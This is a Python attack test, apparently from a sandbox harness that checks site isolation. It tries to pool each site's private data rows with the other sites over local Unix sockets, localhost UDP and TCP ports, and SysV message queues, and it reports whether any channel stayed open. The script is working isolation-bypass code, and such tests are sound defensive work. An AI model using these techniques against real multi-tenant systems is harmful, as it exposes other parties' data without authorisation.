# ATTACK sites-pool-over-local-channels: no client reads another's files (attacks 50, 55, 56), so
# each serves its own rows over whatever local channel the container offers and fetches the
# others' rows the same way. Blocked only if every channel is.
import ctypes as _ctypes
import glob as _glob
import os as _os
import socket as _socket
import threading as _threading
import time as _time

from afr_box.tasks.shared.site_env import data_dir as _data_dir, run_info as _run_info

_SITES = _run_info()["sites"]


def _rows(site):
    try:
        return b"".join(open(p, "rb").read() for p in sorted((_data_dir() / site).iterdir()) if p.is_file())[:60000]
    except PermissionError:  # another site's folder: site isolation (attack 50)
        return None


_OWN = next(s for s in _SITES if _rows(s) is not None)
_ME, _MINE = _SITES.index(_OWN), _rows(_OWN)
_ERRORS, _POOLED = {}, {}
_libc = _ctypes.CDLL(None, use_errno=True)


def _serve_stream(server):
    while True:
        conn, _ = server.accept()
        with conn:
            conn.sendall(_MINE)


def _serve_udp(server):
    while True:
        _, peer = server.recvfrom(16)
        server.sendto(_MINE, peer)


def _start(channel, make):
    try:
        make()
    except OSError as exc:
        _ERRORS.setdefault(channel, f"{channel}: {exc}")


def _unix():
    server = _socket.socket(_socket.AF_UNIX, _socket.SOCK_STREAM)
    server.bind(f"{_os.getcwd()}/afr-pool-{_OWN}.sock")
    server.listen()
    _threading.Thread(target=_serve_stream, args=(server,), daemon=True).start()


def _udp():
    server = _socket.socket(_socket.AF_INET, _socket.SOCK_DGRAM)
    server.bind(("127.0.0.1", 47000 + _ME))
    _threading.Thread(target=_serve_udp, args=(server,), daemon=True).start()


def _tcp():
    server = _socket.socket()
    server.bind(("127.0.0.1", 47100 + _ME))
    server.listen()
    _threading.Thread(target=_serve_stream, args=(server,), daemon=True).start()


def _sysv():
    queue = _libc.msgget(0x41460 + _ME, 0o1666)
    if queue < 0:
        raise OSError(_ctypes.get_errno(), _os.strerror(_ctypes.get_errno()))
    message = _ctypes.create_string_buffer(8 + 4000)
    _ctypes.memmove(_ctypes.addressof(message), (1).to_bytes(8, "little") + _MINE[:4000], 8 + min(4000, len(_MINE)))
    for _ in range(len(_SITES)):
        _libc.msgsnd(queue, message, 4000, 0o4000)


for _channel, _make in (("unix", _unix), ("udp", _udp), ("tcp", _tcp), ("sysv", _sysv)):
    _start(_channel, _make)


def _fetch(site, i):
    for path in _glob.glob(f"/tmp/**/afr-pool-{site}.sock", recursive=True):
        with _socket.socket(_socket.AF_UNIX, _socket.SOCK_STREAM) as s:
            s.connect(path)
            return s.recv(65536)
    with _socket.socket(_socket.AF_INET, _socket.SOCK_DGRAM) as s:
        s.settimeout(0.5)
        s.sendto(b"rows?", ("127.0.0.1", 47000 + i))
        return s.recv(65536)


def _fetch_tcp(i):
    with _socket.create_connection(("127.0.0.1", 47100 + i), timeout=0.5) as s:
        return s.recv(65536)


if len(_ERRORS) < 4:  # a channel is open: wait for the others' rows
    _deadline = _time.monotonic() + 60
    while _time.monotonic() < _deadline and len(_POOLED) < len(_SITES) - 1:
        for _i, _site in enumerate(_SITES):
            if _site == _OWN or _site in _POOLED:
                continue
            for _get in (lambda: _fetch(_site, _i), lambda: _fetch_tcp(_i)):
                try:
                    _POOLED[_site] = _get()
                    break
                except OSError:
                    continue
        _time.sleep(0.2)
    print(f"POOLED {sorted(_POOLED)} over {sorted(set(['unix', 'udp', 'tcp', 'sysv']) - set(_ERRORS))}", flush=True)
else:
    raise RuntimeError("ATTACK sites-pool-over-local-channels blocked: "
                     + "; ".join(_ERRORS[c] for c in ("unix", "udp", "tcp", "sysv")))
